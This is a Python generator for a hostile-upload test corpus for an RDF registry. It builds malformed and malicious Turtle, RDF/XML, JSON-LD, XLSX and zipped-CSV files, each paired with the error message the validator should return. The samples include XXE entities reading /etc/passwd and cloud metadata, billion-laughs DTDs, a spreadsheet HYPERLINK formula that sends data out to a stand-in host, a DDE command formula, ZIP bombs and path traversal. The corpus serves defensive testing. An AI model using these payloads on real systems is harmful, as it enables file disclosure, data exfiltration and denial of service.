"""Corpus de envíos hostiles: malformados, truncados, peligrosos, en cada formato que acepta el registro.

Cada caso dice qué archivo enviaría un atacante (o una institución con un archivo dañado), con qué nombre
y formato, y qué fragmento debe aparecer en el mensaje de error (en español). Los casos pequeños están
además escritos en ``tests/hostiles/archivos/`` (legibles, en el repositorio); los grandes (bombas ZIP,
literales de megabytes, anidamientos profundos) se generan al ejecutar las pruebas, en memoria.

Uso como programa (escribe todo el corpus, también los grandes, para probarlo a mano con la CLI):

    python tests/hostiles/generar.py CARPETA          # todos
    python tests/hostiles/generar.py --pequenos       # reescribe tests/hostiles/archivos/
"""

from __future__ import annotations

import functools
import io
import json
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ARCHIVOS = Path(__file__).resolve().parent / "archivos"
LIMITE = 2 * 1024 * 1024
"""Tamaño máximo de envío con el que se prueban (API, CLI e ingesta usan el mismo)."""

ID = "https://w3id.org/registro/id/"
INST = "iest-piloto"
PROPIO = f"{ID}inst/{INST}/programa/HOSTIL"
RDF_NS = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
PREFIJOS = (
    "@prefix reg: <https://w3id.org/registro/ontologia#> .\n"
    "@prefix skos: <http://www.w3.org/2004/02/skos/core#> .\n"
)


@dataclass(frozen=True)
class Caso:
    """Un envío hostil."""

    nombre: str
    """Identificador del caso (también el nombre del archivo en ``archivos/``)."""
    archivo: str
    """Nombre con el que se envía (la extensión decide el formato si ``formato`` es ``None``)."""
    generar: Callable[[], bytes]
    espera: tuple[str, ...]
    """Fragmentos (minúsculas) de los que al menos uno debe estar en el mensaje de error."""
    formato: str | None = None
    grande: bool = False
    """Se genera al ejecutar (no está en ``archivos/``)."""

    @functools.cached_property
    def contenido(self) -> bytes:
        if not self.grande and (ARCHIVOS / self.nombre).is_file():
            return (ARCHIVOS / self.nombre).read_bytes()
        return self.generar()


# --- material de partida -----------------------------------------------------------------------------
@functools.cache
def _programa_ttl() -> bytes:
    from registro import recursos

    return (recursos.carpeta("datos_ttl") / "piloto" / "iest-piloto" / "programa-telecom.ttl").read_bytes()


@functools.cache
def _programa_grafo():  # type: ignore[no-untyped-def]
    from rdflib import Graph

    g = Graph()
    g.parse(data=_programa_ttl(), format="turtle")
    return g


def _serializado(formato: str) -> bytes:
    return _programa_grafo().serialize(format=formato, encoding="utf-8")


def _truncar(datos: bytes, fraccion: float = 0.6) -> bytes:
    return datos[: int(len(datos) * fraccion)]


def _truncar_en_texto(datos: bytes, fraccion: float = 0.6) -> bytes:
    """Corte dentro de un literal: un corte justo tras un «.» sería Turtle válido (y un envío legítimo)."""
    comilla = datos.index(b'"', int(len(datos) * fraccion))
    return datos[: comilla + 5]


def _ttl(cuerpo: str) -> bytes:
    return (PREFIJOS + cuerpo).encode("utf-8")


def _rdfxml(cuerpo: str, dtd: str = "") -> bytes:
    return (
        f'<?xml version="1.0"?>\n{dtd}<rdf:RDF xmlns:rdf="{RDF_NS}" '
        'xmlns:skos="http://www.w3.org/2004/02/skos/core#">\n'
        f'  <rdf:Description rdf:about="{PROPIO}">\n    <skos:prefLabel xml:lang="es">{cuerpo}'
        "</skos:prefLabel>\n  </rdf:Description>\n</rdf:RDF>\n"
    ).encode()


def _jsonld(contexto: object, extra: dict | None = None) -> bytes:
    doc = {"@context": contexto, "@id": PROPIO, "nombre": "Programa hostil", **(extra or {})}
    return json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")


# --- planillas -------------------------------------------------------------------------------------------
@functools.cache
def _plantilla(formato: str) -> bytes:
    from registro import hojas

    return hojas.generar_plantilla("programa", formato)


def _xlsx_con(ajuste: Callable[[object], None]) -> bytes:
    import openpyxl

    libro = openpyxl.load_workbook(io.BytesIO(_plantilla("xlsx")))
    ajuste(libro)
    salida = io.BytesIO()
    libro.save(salida)
    return salida.getvalue()


def _formula(texto: str) -> Callable[[object], None]:
    def ajustar(libro) -> None:  # type: ignore[no-untyped-def]
        hoja = libro["Unidades didácticas"]
        for col, valor in enumerate(["MF1", 1, "TEL-999", texto, "I", 2, 32, 0], start=1):
            hoja.cell(row=3, column=col, value=valor)

    return ajustar


def _zip_con(base: bytes, extra: dict[str, bytes], *, quitar: tuple[str, ...] = ()) -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as origen, zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as z:
        for info in origen.infolist():
            if info.filename not in quitar:
                z.writestr(info.filename, origen.read(info))
        for nombre, datos in extra.items():
            z.writestr(nombre, datos)
    return salida.getvalue()


def _csv_zip(
    fila: list[str], *, codificacion: str = "utf-8", miembro: str = "unidades-didacticas.csv"
) -> bytes:
    """Plantilla CSV con una fila añadida a un CSV (el resto, tal cual se generó)."""
    origen = zipfile.ZipFile(io.BytesIO(_plantilla("csv")))
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as z:
        for info in origen.infolist():
            datos = origen.read(info)
            if info.filename == miembro:
                texto = datos.decode("utf-8-sig").rstrip("\n") + "\n" + ",".join(fila) + "\n"
                datos = texto.encode(codificacion)
            z.writestr(info.filename, datos)
    return salida.getvalue()


def _bomba_zip(base: bytes, miembro: str, mebibytes: int) -> bytes:
    """Un miembro de ``mebibytes`` MiB de ceros que ocupa unos KB comprimido (razón ~1000:1)."""
    return _zip_con(base, {miembro: b"\0" * (mebibytes * 1024 * 1024)})


def _directorio_mentiroso(base: bytes) -> bytes:
    """El directorio central declara 4 GB descomprimidos para el primer miembro."""
    datos = bytearray(base)
    central = datos.find(b"PK\x01\x02")
    datos[central + 24 : central + 28] = struct.pack("<I", 0xF0000000)
    return bytes(datos)


def _muchos_miembros(n: int) -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(n):
            z.writestr(f"vacio-{i}.csv", b"")
    return salida.getvalue()


def _zip_de(miembros: dict[str, bytes]) -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as z:
        for nombre, datos in miembros.items():
            z.writestr(nombre, datos)
    return salida.getvalue()


# --- el corpus ----------------------------------------------------------------------------------------------
_SINTAXIS = ("sintaxis", "error de sintaxis")
_UTF8 = ("utf-8",)
_DTD = ("doctype", "entity", "dtd")
_CONTEXTO = ("contexto externo",)


def casos() -> list[Caso]:
    """Todos los casos, en un orden estable."""
    p = PROPIO
    return [
        # Turtle ---------------------------------------------------------------------------------
        Caso(
            "turtle-truncado.ttl",
            "turtle-truncado.ttl",
            lambda: _truncar_en_texto(_programa_ttl()),
            _SINTAXIS,
        ),
        Caso(
            "turtle-llaves.ttl",
            "turtle-llaves.ttl",
            lambda: _ttl(f'<{p}> reg:codigo [ reg:x [ reg:y "z" .\n'),
            _SINTAXIS,
        ),
        Caso(
            "turtle-prefijo-no-declarado.ttl",
            "turtle-prefijo-no-declarado.ttl",
            lambda: f'<{p}> nodeclarado:codigo "X" .\n'.encode(),
            ("prefijo", "prefix", "sintaxis"),
        ),
        Caso(
            "turtle-literal-sin-cerrar.ttl",
            "turtle-literal-sin-cerrar.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "sin cerrar .\n'),
            _SINTAXIS,
        ),
        Caso(
            "turtle-iri-control.ttl",
            "turtle-iri-control.ttl",
            lambda: _ttl(f'<{p}\\u0007> reg:codigo "X" .\n'),
            _SINTAXIS,
        ),
        Caso(
            "turtle-iri-mayor-que.ttl",
            "turtle-iri-mayor-que.ttl",
            lambda: _ttl(
                f'<{p}\\u003E }} }} ; DROP ALL ; INSERT DATA {{ <a:b> <a:c> <a:d> > reg:codigo "X" .\n'
            ),
            _SINTAXIS,
        ),
        Caso(
            "turtle-iri-espacio.ttl",
            "turtle-iri-espacio.ttl",
            lambda: _ttl(f'<{p} x> reg:codigo "X" .\n'),
            _SINTAXIS,
        ),
        Caso(
            "turtle-literal-control.ttl",
            "turtle-literal-control.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "A\\u0001B" .\n'),
            ("carácter de control",),
        ),
        Caso(
            "turtle-literal-nul.ttl",
            "turtle-literal-nul.ttl",
            lambda: _ttl(f'<{p}> skos:prefLabel "nulo\\u0000"@es .\n'),
            ("carácter de control",),
        ),
        Caso(
            "turtle-idioma-invalido.ttl",
            "turtle-idioma-invalido.ttl",
            lambda: _ttl(f'<{p}> skos:prefLabel "x"@es-{"a" * 40} .\n'),
            _SINTAXIS,
        ),
        Caso(
            "turtle-rdf-star.ttl",
            "turtle-rdf-star.ttl",
            lambda: _ttl(f'<< <{p}> reg:codigo "X" >> reg:codigo "Y" .\n'),
            ("rdf-star", "citadas"),
        ),
        Caso(
            "turtle-base-file.ttl",
            "turtle-base-file.ttl",
            lambda: b'@base <file:///etc/> .\n<passwd> <https://w3id.org/registro/ontologia#codigo> "X" .\n',
            ("no conforme", "otra institución", "espacio", "propio", "ajeno", "no pertenece", "fuera"),
        ),
        Caso("turtle-vacio.ttl", "turtle-vacio.ttl", lambda: b"   \n\t\n", ("vacío",)),
        Caso(
            "turtle-solo-comentarios.ttl",
            "turtle-solo-comentarios.ttl",
            lambda: b"# nada\n# de nada\n",
            ("vacío", "ninguna tripleta", "formato"),
        ),
        Caso(
            "turtle-literal-enorme.ttl",
            "turtle-literal-enorme.ttl",
            lambda: _ttl(f'<{p}> skos:definition "{"x" * 1_500_000}"@es .\n'),
            ("caracteres (máximo",),
            grande=True,
        ),
        Caso(
            "turtle-literal-gigante.ttl",
            "turtle-literal-gigante.ttl",
            lambda: _ttl(f'<{p}> skos:definition "{"x" * (LIMITE + 10)}"@es .\n'),
            ("máximo permitido", "supera el máximo", "demasiado grande"),
            grande=True,
        ),
        Caso(
            "turtle-listas-anidadas.ttl",
            "turtle-listas-anidadas.ttl",
            lambda: _ttl(f"<{p}> reg:x " + "(" * 60_000 + ")" * 60_000 + " .\n"),
            ("más de 100,000 tripletas", "tripletas"),
            grande=True,
        ),
        Caso(
            "turtle-muchas-tripletas.ttl",
            "turtle-muchas-tripletas.ttl",
            lambda: _ttl(f"<{p}> reg:x " + ",".join(str(i) for i in range(100_001)) + " .\n"),
            ("más de 100,000 tripletas",),
            grande=True,
        ),
        # codificaciones ---------------------------------------------------------------------------
        Caso(
            "utf16-bom.ttl",
            "utf16-bom.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "X" .\n').decode().encode("utf-16"),
            _UTF8,
        ),
        Caso(
            "utf16be-bom.ttl",
            "utf16be-bom.ttl",
            lambda: b"\xfe\xff" + _ttl(f'<{p}> reg:codigo "X" .\n').decode().encode("utf-16-be"),
            _UTF8,
        ),
        Caso(
            "latin1.ttl",
            "latin1.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "Canción" .\n').decode().encode("latin-1"),
            _UTF8,
        ),
        Caso(
            "utf8-sobrelargo.ttl",
            "utf8-sobrelargo.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "') + b'\xc0\xaf" .\n',
            _UTF8,
        ),
        Caso(
            "utf8-sustituto.ttl",
            "utf8-sustituto.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "') + b'\xed\xa0\x80" .\n',
            _UTF8,
        ),
        Caso(
            "nul-binario.ttl",
            "nul-binario.ttl",
            lambda: _ttl(f'<{p}> reg:codigo "X" .\n') + b"\0\0\0",
            ("nulos",),
        ),
        Caso(
            "binario-aleatorio.dat",
            "binario-aleatorio.dat",
            lambda: bytes(range(256)) * 8,
            ("utf-8", "formato"),
        ),
        Caso(
            "pdf-disfrazado.ttl",
            "pdf-disfrazado.ttl",
            lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
            _UTF8 + _SINTAXIS,
        ),
        # TriG ---------------------------------------------------------------------------------------
        Caso(
            "trig-truncado.trig",
            "trig-truncado.trig",
            lambda: _truncar(b"{\n" + _serializado("nt") + b"}\n", 0.5),
            _SINTAXIS,
        ),
        Caso(
            "trig-grafo-con-nombre.trig",
            "trig-grafo-con-nombre.trig",
            lambda: (
                f"<https://w3id.org/registro/grafo/referencia> {{ <{p}> <{RDF_NS}type> <x:y> . }}\n".encode()
            ),
            ("grafo con nombre",),
        ),
        Caso(
            "trig-llave-sin-cerrar.trig",
            "trig-llave-sin-cerrar.trig",
            lambda: f"{{ <{p}> <{RDF_NS}type> <x:y> .\n".encode(),
            _SINTAXIS,
        ),
        # N-Triples ----------------------------------------------------------------------------------
        Caso(
            "ntriples-truncado.nt",
            "ntriples-truncado.nt",
            lambda: _truncar(_serializado("nt"), 0.37),
            _SINTAXIS,
        ),
        Caso(
            "ntriples-iri-relativo.nt",
            "ntriples-iri-relativo.nt",
            lambda: b'<relativo> <https://w3id.org/registro/ontologia#codigo> "X" .\n',
            _SINTAXIS,
        ),
        Caso(
            "ntriples-prefijos.nt",
            "ntriples-prefijos.nt",
            lambda: _ttl(f'<{p}> reg:codigo "X" .\n'),
            _SINTAXIS,
        ),
        # N-Quads ------------------------------------------------------------------------------------
        Caso(
            "nquads-truncado.nq", "nquads-truncado.nq", lambda: _truncar(_serializado("nt"), 0.41), _SINTAXIS
        ),
        Caso(
            "nquads-grafo-con-nombre.nq",
            "nquads-grafo-con-nombre.nq",
            lambda: f"<{p}> <{RDF_NS}type> <x:y> <https://w3id.org/registro/grafo/registro> .\n".encode(),
            ("grafo con nombre",),
        ),
        # RDF/XML ------------------------------------------------------------------------------------
        Caso(
            "rdfxml-billion-laughs.rdf",
            "rdfxml-billion-laughs.rdf",
            lambda: _rdfxml(
                "&lol9;",
                '<!DOCTYPE rdf:RDF [\n <!ENTITY lol "lol">\n'
                + "".join(
                    f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
                    for i in range(1, 10)
                )
                + "]>\n",
            ),
            _DTD,
        ),
        Caso(
            "rdfxml-entidad-externa.rdf",
            "rdfxml-entidad-externa.rdf",
            lambda: _rdfxml("&xxe;", '<!DOCTYPE rdf:RDF [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n'),
            _DTD,
        ),
        Caso(
            "rdfxml-entidad-http.rdf",
            "rdfxml-entidad-http.rdf",
            lambda: _rdfxml(
                "&xxe;",
                '<!DOCTYPE rdf:RDF [ <!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/"> ]>\n',
            ),
            _DTD,
        ),
        Caso(
            "rdfxml-entidad-parametro.rdf",
            "rdfxml-entidad-parametro.rdf",
            lambda: _rdfxml(
                "x",
                '<!DOCTYPE rdf:RDF [ <!ENTITY % remota SYSTEM "http://ejemplo.invalid/x.dtd"> %remota; ]>\n',
            ),
            _DTD,
        ),
        Caso(
            "rdfxml-doctype-minusculas.rdf",
            "rdfxml-doctype-minusculas.rdf",
            lambda: _rdfxml("x", '<!doctype rdf:RDF [ <!entity a "b"> ]>\n'),
            _DTD,
        ),
        Caso(
            "rdfxml-truncado.rdf",
            "rdfxml-truncado.rdf",
            lambda: _truncar(_serializado("xml"), 0.55),
            _SINTAXIS,
        ),
        Caso(
            "rdfxml-entidad-no-declarada.rdf",
            "rdfxml-entidad-no-declarada.rdf",
            lambda: _rdfxml("&lol;"),
            _SINTAXIS,
        ),
        Caso(
            "rdfxml-xinclude.rdf",
            "rdfxml-xinclude.rdf",
            lambda: (
                b'<?xml version="1.0"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
                b'xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></rdf:RDF>\n'
            ),
            (*_SINTAXIS, "ninguna tripleta"),
        ),
        Caso(
            "rdfxml-utf16-con-dtd.rdf",
            "rdfxml-utf16-con-dtd.rdf",
            lambda: (
                '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY a "b">]><rdf:RDF '
                'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
            ).encode("utf-16"),
            _UTF8,
        ),
        # JSON-LD ------------------------------------------------------------------------------------
        Caso(
            "jsonld-contexto-http.jsonld",
            "jsonld-contexto-http.jsonld",
            lambda: _jsonld("http://ejemplo.invalid/contexto.jsonld"),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-contexto-file.jsonld",
            "jsonld-contexto-file.jsonld",
            lambda: _jsonld("file:///etc/passwd"),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-contexto-relativo.jsonld",
            "jsonld-contexto-relativo.jsonld",
            lambda: _jsonld("../../../../etc/passwd"),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-contexto-en-lista.jsonld",
            "jsonld-contexto-en-lista.jsonld",
            lambda: _jsonld(
                [{"nombre": "http://www.w3.org/2004/02/skos/core#prefLabel"}, "https://ejemplo.invalid/c"]
            ),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-import.jsonld",
            "jsonld-import.jsonld",
            lambda: _jsonld({"@version": 1.1, "@import": "http://ejemplo.invalid/c.jsonld"}),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-contexto-con-alcance.jsonld",
            "jsonld-contexto-con-alcance.jsonld",
            lambda: _jsonld(
                {
                    "@version": 1.1,
                    "hijo": {"@id": "https://w3id.org/registro/ontologia#x", "@context": "file:///etc/hosts"},
                },
                {"hijo": {"@id": p + "/h"}},
            ),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-contexto-anidado.jsonld",
            "jsonld-contexto-anidado.jsonld",
            lambda: json.dumps(
                {
                    "@id": p,
                    "https://w3id.org/registro/ontologia#x": {
                        "@context": "http://ejemplo.invalid/c",
                        "@id": p + "/h",
                    },
                }
            ).encode(),
            _CONTEXTO,
        ),
        Caso(
            "jsonld-truncado.jsonld",
            "jsonld-truncado.jsonld",
            lambda: _truncar(_serializado("json-ld"), 0.5),
            ("sintaxis json",),
        ),
        Caso(
            "jsonld-json-invalido.jsonld",
            "jsonld-json-invalido.jsonld",
            lambda: b'{"@id": "x", "a": [1, 2,, 3]}',
            ("sintaxis json",),
        ),
        Caso(
            "jsonld-anidado-profundo.jsonld",
            "jsonld-anidado-profundo.jsonld",
            lambda: b"[" * 200_000 + b"]" * 200_000,
            ("profundidad",),
            grande=True,
        ),
        Caso(
            "jsonld-objetos-anidados.jsonld",
            "jsonld-objetos-anidados.jsonld",
            lambda: (
                f'{{"@id":"{p}","https://w3id.org/registro/ontologia#x":'.encode()
                + b'{"https://w3id.org/registro/ontologia#x":' * 5000
                + b'"o"'
                + b"}" * 5001
            ),
            ("profundidad",),
            grande=True,
        ),
        # planillas XLSX ------------------------------------------------------------------------------
        Caso(
            "xlsx-formula.xlsx",
            "xlsx-formula.xlsx",
            lambda: _xlsx_con(_formula('=HYPERLINK("http://ejemplo.invalid/robo?d="&A1,"clic")')),
            ("fórmula",),
        ),
        Caso(
            "xlsx-dde.xlsx", "xlsx-dde.xlsx", lambda: _xlsx_con(_formula("=cmd|' /C calc'!A0")), ("fórmula",)
        ),
        Caso(
            "xlsx-vbaproject.xlsx",
            "xlsx-vbaproject.xlsx",
            lambda: _zip_con(_plantilla("xlsx"), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
            ("macros",),
        ),
        Caso("xlsx-macros.xlsm", "programa.xlsm", lambda: _plantilla("xlsx"), ("macros",)),
        Caso(
            "xlsx-macrosheet.xlsx",
            "xlsx-macrosheet.xlsx",
            lambda: _zip_con(_plantilla("xlsx"), {"xl/macrosheets/sheet1.xml": b"<x/>"}),
            ("macros",),
        ),
        Caso(
            "xlsx-dtd.xlsx",
            "xlsx-dtd.xlsx",
            lambda: _zip_con(
                _plantilla("xlsx"),
                {"xl/extra.xml": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "a">]><r>&a;</r>'},
            ),
            _DTD,
        ),
        Caso(
            "xlsx-bomba-zip.xlsx",
            "xlsx-bomba-zip.xlsx",
            lambda: _bomba_zip(_plantilla("xlsx"), "xl/media/relleno.bin", 40),
            ("bomba zip",),
            grande=True,
        ),
        Caso(
            "xlsx-directorio-mentiroso.xlsx",
            "xlsx-directorio-mentiroso.xlsx",
            lambda: _directorio_mentiroso(_plantilla("xlsx")),
            ("bomba zip", "dañado"),
        ),
        Caso(
            "xlsx-truncado.xlsx",
            "xlsx-truncado.xlsx",
            lambda: _truncar(_plantilla("xlsx"), 0.5),
            ("dañado", "no es un libro", "zip"),
        ),
        Caso(
            "xlsx-no-zip.xlsx",
            "xlsx-no-zip.xlsx",
            lambda: b"Codigo;Nombre\nPE;Programa\n",
            ("no es un libro",),
        ),
        Caso(
            "xlsx-cifrado-ole.xlsx",
            "xlsx-cifrado-ole.xlsx",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
            ("no es un libro", "cifrado", "xls"),
        ),
        Caso(
            "xlsx-sin-hojas.xlsx",
            "xlsx-sin-hojas.xlsx",
            lambda: _zip_con(_plantilla("xlsx"), {}, quitar=("xl/workbook.xml",)),
            ("dañado", "hoja", "libro"),
        ),
        # planillas CSV en .zip -------------------------------------------------------------------------
        Caso(
            "csvzip-formula.zip",
            "csvzip-formula.zip",
            lambda: _csv_zip(["MF1", "1", "TEL-999", "=1+1", "I", "2", "32", "0", ""]),
            ("fórmula",),
        ),
        Caso(
            "csvzip-formula-hyperlink.zip",
            "csvzip-formula-hyperlink.zip",
            lambda: _csv_zip(
                ["MF1", "1", "TEL-999", '"=HYPERLINK(""http://x.invalid"")"', "I", "2", "32", "0", ""]
            ),
            ("fórmula",),
        ),
        Caso(
            "csvzip-latin1.zip",
            "csvzip-latin1.zip",
            lambda: _csv_zip(
                ["MF1", "1", "TEL-999", "Canción", "I", "2", "32", "0", ""], codificacion="latin-1"
            ),
            _UTF8,
        ),
        Caso(
            "csvzip-utf16.zip",
            "csvzip-utf16.zip",
            lambda: _csv_zip(["MF1", "1", "TEL-999", "X", "I", "2", "32", "0", ""], codificacion="utf-16"),
            _UTF8,
        ),
        Caso(
            "csvzip-caracter-control.zip",
            "csvzip-caracter-control.zip",
            lambda: _csv_zip(["MF1", "1", "TEL-999", "Uni\x01dad", "I", "2", "32", "0", ""]),
            ("carácter de control", "no es conforme", "obligatori", "falta"),
        ),
        Caso(
            "csvzip-ruta-escapada.zip",
            "csvzip-ruta-escapada.zip",
            lambda: _zip_de({"../../../../tmp/programa.csv": b"a;b\n1;2\n"}),
            ("plantilla", "falta", "hoja", "no contiene"),
        ),
        Caso(
            "csvzip-bomba.zip",
            "csvzip-bomba.zip",
            lambda: _bomba_zip(_plantilla("csv"), "relleno.csv", 40),
            ("bomba zip",),
            grande=True,
        ),
        Caso(
            "csvzip-muchos-miembros.zip",
            "csvzip-muchos-miembros.zip",
            lambda: _muchos_miembros(600),
            ("archivos internos",),
        ),
        Caso(
            "csvzip-zip-anidado.zip",
            "csvzip-zip-anidado.zip",
            lambda: _zip_de({"dentro.zip": _plantilla("csv")}),
            ("no contiene archivos csv",),
        ),
        Caso(
            "csvzip-miembro-repetido.zip",
            "csvzip-miembro-repetido.zip",
            lambda: _miembro_repetido(),
            ("dos veces",),
        ),
        Caso("csv-suelto.csv", "programa.csv", lambda: b"Campo;Valor\nC\xc3\xb3digo;PE\n", ("csv suelto",)),
    ]


def _miembro_repetido() -> bytes:
    salida = io.BytesIO()
    with zipfile.ZipFile(salida, "w", zipfile.ZIP_DEFLATED) as z, __import__("warnings").catch_warnings():
        __import__("warnings").simplefilter("ignore")
        z.writestr("programa.csv", b"Campo;Valor\n")
        z.writestr("programa.csv", b"Campo;Valor\nOtro;Valor\n")
    return salida.getvalue()


def escribir(carpeta: Path, *, solo_pequenos: bool) -> int:
    """Escribe los casos en ``carpeta``; devuelve cuántos escribió."""
    carpeta.mkdir(parents=True, exist_ok=True)
    n = 0
    for caso in casos():
        if solo_pequenos and caso.grande:
            continue
        (carpeta / caso.nombre).write_bytes(caso.generar())
        n += 1
    return n


if __name__ == "__main__":  # pragma: no cover - herramienta manual
    if sys.argv[1:] == ["--pequenos"]:
        print(f"{escribir(ARCHIVOS, solo_pequenos=True)} archivos en {ARCHIVOS}")
    elif len(sys.argv) == 2:
        print(f"{escribir(Path(sys.argv[1]), solo_pequenos=False)} archivos en {sys.argv[1]}")
    else:
        print(__doc__)
        sys.exit(2)
